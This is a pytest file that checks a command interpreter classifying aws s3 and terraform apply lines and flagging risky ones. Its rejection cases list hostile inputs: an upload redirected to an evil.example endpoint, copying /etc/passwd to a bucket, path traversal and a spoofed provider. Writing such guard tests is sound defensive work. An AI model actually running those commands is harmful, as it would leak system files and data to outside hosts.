"""`aws s3` and `terraform apply` in a line: whole names, the files beside them, and one account."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from commands import ORDERS, codes
from counterfoil.core.actions.contract import interpret
from counterfoil.core.actions.registry import FAMILIES
from counterfoil.core.model import Interpretation, Registered
from shell_read import REPOSITORY, WORKSPACE, shell_command
from words import ACCOUNT, sample_plan
from words import WORKSPACE as INFRA

REGISTERED = Registered.of([WORKSPACE, ORDERS, REPOSITORY, ACCOUNT, INFRA])
PLAN = sample_plan("aws_sqs_queue", "create")


def line(text: str, **more: Any) -> Interpretation:
    command = shell_command(text, registered=REGISTERED)
    return interpret(replace(command, arguments={"command": text, **more}), FAMILIES)


def does(reading: Interpretation) -> list[tuple[str, object]]:
    assert not reading.uncertain, reading.uncertain
    return [
        (item.verb, item.object.get("arn") or item.object.get("path") or item.object["name"])
        for item in reading.operations
    ]


def runs(reading: Interpretation) -> str:
    assert reading.execute is not None
    return str(reading.execute.arguments["command"])


@pytest.mark.parametrize(
    ("text", "found", "run"),
    [
        ("aws s3 ls", [("s3:ListAllMyBuckets", "*")], "'aws' 's3' 'ls' '--region=eu-central-1'"),
        ("aws s3 ls s3://carts/in/ --human-readable", [("s3:ListBucket", "arn:aws:s3:::carts")],
         "'aws' 's3' 'ls' '--region=eu-central-1' '--human-readable' 's3://carts/in/'"),
        ("aws s3 cp src/a.py s3://carts/in/a.py --quiet",
         [("s3:PutObject", "arn:aws:s3:::carts/in/a.py"), ("read", "src/a.py")],
         "'aws' 's3' 'cp' '--region=eu-central-1' '--quiet' './src/a.py' 's3://carts/in/a.py'"),
        ("aws s3 cp src/a.py s3://carts",
         [("s3:PutObject", "arn:aws:s3:::carts/a.py"), ("read", "src/a.py")],
         "'aws' 's3' 'cp' '--region=eu-central-1' './src/a.py' 's3://carts/a.py'"),
        ("aws s3 cp s3://carts/in/7.json out/",
         [("s3:GetObject", "arn:aws:s3:::carts/in/7.json"), ("write", "out/7.json")],
         ("'aws' 's3api' 'get-object' '--region=eu-central-1' '--output=json' '--cli-input-json' "
         "'{\"Bucket\":\"carts\",\"Key\":\"in/7.json\"}' './out/7.json'")),
        ("aws s3 cp s3://carts/in/7.json out", [("s3:GetObject", "arn:aws:s3:::carts/in/7.json"),
         ("write", "out")],
         ("'aws' 's3api' 'get-object' '--region=eu-central-1' '--output=json' '--cli-input-json' "
         "'{\"Bucket\":\"carts\",\"Key\":\"in/7.json\"}' './out'")),
        ("aws s3 cp s3://carts/a - | wc -l", [("s3:GetObject", "arn:aws:s3:::carts/a"),
         ("run", "wc")],
         "'aws' 's3' 'cp' '--region=eu-central-1' 's3://carts/a' '-' | 'wc' '-l'"),
        ("aws s3 mv src/a.py s3://carts/a", [("s3:PutObject", "arn:aws:s3:::carts/a"),
         ("read", "src/a.py"), ("delete", "src/a.py")],
         "'aws' 's3' 'mv' '--region=eu-central-1' './src/a.py' 's3://carts/a'"),
        ("aws s3 rm s3://carts/a", [("s3:DeleteObject", "arn:aws:s3:::carts/a")],
         "'aws' 's3' 'rm' '--region=eu-central-1' 's3://carts/a'"),
        ("aws s3 mb s3://carts", [("s3:CreateBucket", "arn:aws:s3:::carts")],
         "'aws' 's3' 'mb' '--region=eu-central-1' 's3://carts'"),
        ("aws s3 rb s3://carts", [("s3:DeleteBucket", "arn:aws:s3:::carts")],
         "'aws' 's3' 'rb' '--region=eu-central-1' 's3://carts'"),
    ],
)  # fmt: skip
def test_objects_are_named_whole_and_the_files_beside_them(
    text: str, found: list[tuple[str, str]], run: str
) -> None:
    reading = line(text)
    assert does(reading) == found
    assert runs(reading) == f"cd -- '/srv/work' && {run}"
    assert reading.resource == ACCOUNT
    assert reading.execute is not None
    session: Any = reading.execute.session
    assert session["environment"]["AWS_CONFIG_FILE"] == "/dev/null"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("aws s3 sync src s3://carts", "uncertain.cloud_call"),
        ("aws s3 presign s3://carts/a", "uncertain.cloud_call"),
        ("aws s3 website s3://carts", "uncertain.cloud_call"),
        ("aws s3", "uncertain.cloud_call"),
        ("aws s3 rm s3://carts/in --recursive", "uncertain.option"),
        ("aws s3 rb s3://carts --force", "uncertain.option"),
        ("aws s3 cp src s3://carts/src --recursive", "uncertain.option"),
        ("aws s3 cp src/a.py s3://carts/a --acl public-read", "uncertain.option"),
        ("aws s3 cp src/a.py s3://carts/a --endpoint-url https://evil.example", "uncertain.option"),
        ("aws s3 cp src/a.py s3://carts/a --profile root", "uncertain.option"),
        ("aws s3 cp src/a.py s3://carts/a --region us-east-1", "uncertain.cloud_account"),
        ("aws s3 cp src/a.py s3://carts/a --content-type file:///etc/passwd",
         "uncertain.cloud_member"),
        ("aws s3 cp s3://carts/a s3://carts/b", "uncertain.operands"),
        ("aws s3 cp src/a.py out/b.py", "uncertain.operands"),
        ("aws s3 cp - s3://carts/a", "uncertain.operands"),
        ("aws s3 mv s3://carts/a out/a", "uncertain.operands"),
        ("aws s3 rm s3://carts", "uncertain.operands"),
        ("aws s3 rb s3://carts/a", "uncertain.operands"),
        ("aws s3 rm carts/a", "uncertain.operands"),
        ("aws s3 ls carts", "uncertain.operands"),
        ("aws s3 rm 's3://carts/*'", "uncertain.cloud_name"),
        ("aws s3 rm s3://carts//a", "uncertain.cloud_name"),
        ("aws s3 rm s3://carts/../orders/a", "uncertain.cloud_name"),
        ("aws s3 ls s3://arn:aws:s3:eu-central-1:1:accesspoint/x", "uncertain.cloud_name"),
        ("aws s3 cp /etc/passwd s3://carts/a", "uncertain.path_root"),
        ("aws s3 cp s3://carts/a /etc/x", "uncertain.path_root"),
        ("aws s3 cp s3://carts/a .git/", "uncertain.path_repository"),
        ("aws s3 cp s3://carts/.. out/", "uncertain.path_component"),
    ],
)  # fmt: skip
def test_what_names_more_or_elsewhere_is_not_read(text: str, code: str) -> None:
    assert codes(line(text)) in ([code], ["uncertain.cloud_name"])
    assert codes(line("aws s3 rm s3://carts/a")) == []  # control


def test_a_plan_that_is_told_beside_the_line_is_its_changes() -> None:
    reading = line("terraform apply -auto-approve tfplan", plan=PLAN)
    assert does(reading) == [("create", "aws_sqs_queue.orders"), ("read", "tfplan")]
    assert runs(reading) == (
        "cd -- '/srv/work' && 'terraform' 'apply' '-input=false' '-auto-approve' './tfplan'"
    )
    assert reading.execute is not None
    session: Any = reading.execute.session
    assert session["plan_digest"] == reading.operations[0].details["plan"]
    assert session["plan_file"] == "/srv/work/tfplan"
    assert session["environment"]["TF_CLI_CONFIG_FILE"] == "/dev/null"
    assert session["environment"]["TF_REATTACH_PROVIDERS"] == ""
    assert reading.execute.arguments["plan"] == PLAN
    assert does(line("tofu apply tfplan", plan=PLAN)) == does(reading)


@pytest.mark.parametrize(
    ("text", "more", "code"),
    [
        ("terraform apply tfplan", {}, "uncertain.plan_missing"),
        ("terraform apply tfplan", {"plan": 7}, "uncertain.plan_missing"),
        ("terraform apply tfplan", {"plan": "{}"}, "uncertain.plan_json"),
        ("terraform apply tfplan", {"plan": "x" * 300_000}, "uncertain.too_long"),
        ("terraform apply", {"plan": PLAN}, "uncertain.operands"),
        ("terraform apply tfplan other", {"plan": PLAN}, "uncertain.operands"),
        ("terraform apply -var=a=b tfplan", {"plan": PLAN}, "uncertain.option"),
        ("terraform apply -target=x tfplan", {"plan": PLAN}, "uncertain.option"),
        ("terraform -chdir=/etc apply tfplan", {"plan": PLAN}, "uncertain.plan_command"),
        ("terraform destroy", {"plan": PLAN}, "uncertain.plan_command"),
        ("terraform plan -out tfplan", {"plan": PLAN}, "uncertain.plan_command"),
        ("terraform init", {"plan": PLAN}, "uncertain.plan_command"),
        ("terraform apply /etc/tfplan", {"plan": PLAN}, "uncertain.path_root"),
        ("terraform apply a && terraform apply b", {"plan": PLAN}, "uncertain.shell_session"),
    ],
)
def test_an_apply_of_anything_else_is_not_read(text: str, more: dict[str, Any], code: str) -> None:
    assert codes(line(text, **more)) == [code]
    assert codes(line("terraform apply tfplan", plan=PLAN)) == []  # control


def test_a_plan_is_applied_in_one_registered_workspace_and_a_known_folder() -> None:
    command = shell_command("terraform apply tfplan", registered=REGISTERED)
    command = replace(command, arguments={**command.arguments, "plan": PLAN})
    nowhere = replace(command, resource=None)
    assert codes(interpret(nowhere, FAMILIES)) == ["uncertain.path_root"]
    two = Registered.of([WORKSPACE, INFRA, replace(INFRA, id="other")])
    for registered in (Registered.of([WORKSPACE]), two):
        reading = interpret(replace(command, registered=registered), FAMILIES)
        assert codes(reading) == ["uncertain.resource_unknown"]


def test_what_programs_of_a_line_must_be_held_to_adds_up() -> None:
    """What git is held to must not be lost because another program comes after it."""
    reading = line("git status && aws s3 ls")
    assert reading.execute is not None
    session: Any = reading.execute.session
    assert session["environment"]["GIT_CONFIG_GLOBAL"] == "/dev/null"
    assert session["environment"]["AWS_CONFIG_FILE"] == "/dev/null"


def test_the_plan_in_the_line_is_the_one_the_cloud_tool_reads() -> None:
    assert json.loads(PLAN)["resource_changes"]
    other = line("terraform apply tfplan", plan=PLAN + " ")
    assert (
        other.operations[0].details["plan"]
        != line("terraform apply tfplan", plan=PLAN).operations[0].details["plan"]
    )


def test_a_plan_of_opentofu_is_read_and_one_of_a_namesake_is_not() -> None:
    for provider, found in (("hashicorp/aws", []), ("evil/aws", ["uncertain.plan_resource"])):
        text = PLAN.replace(
            "registry.terraform.io/hashicorp/aws", f"registry.opentofu.org/{provider}"
        )
        assert codes(line("tofu apply tfplan", plan=text)) == found


def test_two_programs_that_need_different_surroundings_are_two_lines() -> None:
    """A credential is bounded to one repository; the other's push would go without the bound."""
    other = replace(REPOSITORY, id="api", location="https://git.example.com/acme/api.git")
    push = "git push {} refs/heads/x:refs/heads/x"
    first, second = (push.format(item.location) for item in (REPOSITORY, other))
    registered = Registered.of([WORKSPACE, REPOSITORY, other])

    def of(text: str) -> list[str]:
        return codes(interpret(shell_command(text, registered=registered), FAMILIES))

    assert of(f"{first}; {second}") == ["uncertain.shell_session"]
    assert of(first) == of(second) == of(f"{first}; {first}") == []  # control
